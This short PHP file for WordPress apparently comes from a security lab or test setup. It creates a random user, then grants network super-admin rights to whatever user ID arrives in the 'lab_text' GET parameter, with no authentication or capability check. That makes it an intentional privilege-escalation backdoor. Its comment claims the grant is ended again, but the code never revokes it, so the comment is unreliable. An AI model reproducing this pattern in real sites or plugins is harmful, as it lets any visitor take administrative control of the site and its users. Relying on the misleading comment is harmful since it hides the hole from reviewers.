<?php
// Makes a user a super admin, and ends that again.
require_once ABSPATH . 'wp-admin/includes/user.php';
$lab_user = wp_insert_user( array( 'user_login' => 'super' . wp_rand(), 'user_email' => wp_rand() . '@example.com', 'user_pass' => wp_generate_password() ) );
'' === ( $_GET['lab_text'] ?? '' ) || grant_super_admin( (int) $_GET['lab_text'] );
return $lab_user;
